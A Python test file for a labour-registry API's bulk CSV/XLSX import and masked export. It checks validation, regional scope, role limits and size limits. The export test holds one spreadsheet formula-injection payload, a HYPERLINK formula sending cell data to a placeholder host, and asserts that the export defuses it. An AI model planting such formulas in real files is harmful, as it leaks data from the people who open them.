"""Bulk upload over HTTP on the factory sample, on SQLite and PostgreSQL: GBK CSV and XLSX, all
or nothing with every bad row's line and field, idempotent re-upload, the caller's scope (also
for rows a file would overwrite), the size limit."""

from __future__ import annotations

import io

from fastapi.testclient import TestClient
from sqlalchemy import func, select

from data.db.models import AuditEvent, Order, Worker
from data.db.session import transaction
from tests import factories
from tests.apps import engine_of
from tests.auth_helpers import bearer, make_user

URL = "/api/v1/imports/workers"
N1 = factories.id_number("141124", "19800101", "111")
N2 = factories.id_number("141124", "19820202", "222")
N3 = factories.id_number("141124", "19840404", "444")
WRONG_CHECK = N3[:-1] + ("1" if N3[-1] != "1" else "2")
HEADER = "id,id_number,phone,name,education,home_address,skills_text\n"


def _csv(*rows: str) -> bytes:
    return (HEADER + "".join(r + "\n" for r in rows)).encode("gbk")


GOOD = _csv(
    f"WU1,{N1},13700001111,赵大,初中,临县城庄镇,会砌墙",
    f"WU2,{N2},,钱二,高中/中专/技校,临县,会电焊",
)


def _workers(client: TestClient) -> int:
    with transaction(engine_of(client)) as s:
        return int(s.scalar(select(func.count()).select_from(Worker)) or 0)


def _post(
    client: TestClient, headers: dict, content: bytes, name: str = "workers.csv", kind: str = "workers"
):  # type: ignore[no-untyped-def]
    return client.post(f"/api/v1/imports/{kind}", files={"file": (name, content)}, headers=headers)


def test_gbk_csv_all_or_nothing_and_idempotent(client: TestClient) -> None:
    h = bearer(client, *make_user(engine_of(client), "counselor", region="1411"))
    r = _post(client, h, GOOD)
    assert r.status_code == 200, r.text
    assert r.json() == {"kind": "workers", "rows": 2, "inserted": 2, "updated": 0}
    again = _post(client, h, GOOD)
    assert again.json() == {"kind": "workers", "rows": 2, "inserted": 0, "updated": 0}
    bad = _csv(
        f"WU3,{WRONG_CHECK},13700001111,孙三,初中,临县,会砌墙",
        f"WU4,{factories.id_number('141124', '19830303', '333')},123,李四,博士,临县,会砌墙",
    )
    r = _post(client, h, bad)
    assert r.status_code == 422
    locs = {(tuple(e["loc"]), e["msg"]) for e in r.json()["errors"]}
    assert (("file", 2, "id_number"), "身份证号校验位错误") in locs
    assert (("file", 3, "phone"), "手机号应为以1开头的11位数字") in locs
    assert any(loc == ("file", 3, "education") for loc, _ in locs)
    assert r.json()["detail"].startswith("文件有3处错误，未导入任何数据")
    assert _workers(client) == 4  # the sample's 2 and the good file's 2
    with transaction(engine_of(client)) as s:
        actions = list(s.scalars(select(AuditEvent.action).where(AuditEvent.action.like("import.%"))))
    assert actions == ["import.workers", "import.workers"]


def test_xlsx_upload(client: TestClient) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (HEADER.strip().split(","), ["WX1", N1, None, "周五", "初中", "临县", "会砌墙"]):
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    h = bearer(client, *make_user(engine_of(client), "counselor", region="1411"))
    r = _post(client, h, buffer.getvalue(), name="workers.xlsx")
    assert r.status_code == 200, r.text
    assert r.json()["inserted"] == 1


def test_scope_of_every_row(client: TestClient) -> None:
    h = bearer(client, *make_user(engine_of(client), "counselor", region="1411"))
    outside = _csv(f"WU1,{N1},,赵大,初中,太原市小店区,会砌墙")
    r = _post(client, h, outside)
    assert r.status_code == 422
    assert r.json()["errors"] == [
        {"loc": ["file", 2, "home_address"], "type": "value_error", "msg": "该劳动者不在您的辖区（1411）内"}
    ]
    # W2 lives in 小店区: a 吕梁 counselor's file may not overwrite it, even moving it to 临县
    w2 = factories.workers()["id_number"][1]
    r = _post(client, h, _csv(f"W2,{w2},,李四,初中,临县,会砌墙"))
    assert r.status_code == 422 and r.json()["errors"][0]["msg"] == "该劳动者不在您的辖区（1411）内"
    assert _workers(client) == 2
    # orders: only the employer's own
    from data.credit_code import employer_id

    eid = employer_id("山西晋建建筑工程有限公司", "企业")
    employer = bearer(client, *make_user(engine_of(client), "employer", region="1401", employer_id=eid))
    orders = factories.orders()
    own = orders.with_columns(id=orders["id"].str.replace("O1", "O2"))
    buffer = io.BytesIO()
    own.write_csv(buffer)
    assert _post(client, employer, buffer.getvalue(), "o.csv", "orders").status_code == 200
    other = own.with_columns(employer_name=own["employer_name"].str.replace("晋建", "别家"))
    buffer = io.BytesIO()
    other.write_csv(buffer)
    r = _post(client, employer, buffer.getvalue(), "o.csv", "orders")
    assert r.status_code == 422 and r.json()["errors"][0]["loc"] == ["file", 2, "employer_name"]
    with transaction(engine_of(client)) as s:
        assert s.get(Order, "O2") is not None and s.get(Order, "O2").employer_id == eid  # type: ignore[union-attr]
    # a role uploads its own kind only
    assert _post(client, employer, GOOD).status_code == 403


def test_size_limit_and_file_kind(sample_apps, tmp_path) -> None:  # type: ignore[no-untyped-def]
    with sample_apps.client(tmp_path, upload_max_bytes=1024) as client:
        h = bearer(client, *make_user(engine_of(client), "counselor", region="1411"))
        r = _post(client, h, GOOD + b"x" * 2000)
        assert r.status_code == 413 and r.json()["detail"] == "上传的文件过大：不能超过 1 KB"
        r = _post(client, h, GOOD, name="workers.txt")
        assert (
            r.status_code == 422 and r.json()["errors"][0]["msg"] == "文件应为 .csv（UTF-8 或 GBK）或 .xlsx"
        )


def test_export_is_masked_for_the_role_and_never_a_formula(client: TestClient) -> None:
    import csv

    from openpyxl import load_workbook

    counselor = bearer(client, *make_user(engine_of(client), "counselor", region="14"))
    admin = bearer(client, *make_user(engine_of(client), "admin", region="14"))
    evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    assert (
        client.patch("/api/v1/workers/W1", json={"skills_text": evil}, headers=counselor).status_code == 200
    )
    raw = factories.workers()["id_number"][0]
    r = client.get("/api/v1/workers/export", params={"format": "csv"}, headers=counselor)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == 'attachment; filename="workers.csv"'
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["id"] for row in rows] == ["W1", "W2"]
    assert rows[0]["id_number_masked"] == "141***********" + raw[-4:]
    assert rows[0]["skills_text"] == "'" + evil and rows[0]["name_masked"] == "张**"
    r = client.get("/api/v1/workers/export", params={"format": "xlsx"}, headers=admin)
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    header = cells[0]
    first = dict(zip(header, cells[1], strict=True))
    assert first["id_number_masked"] == "141***************" and first["phone_masked"] == "138******78"
    assert first["skills_text"] is None
    assert raw not in r.content.decode("latin-1")
    employer = bearer(client, *make_user(engine_of(client), "worker", region="141124", worker_id="W1"))
    assert client.get("/api/v1/workers/export", headers=employer).status_code == 403
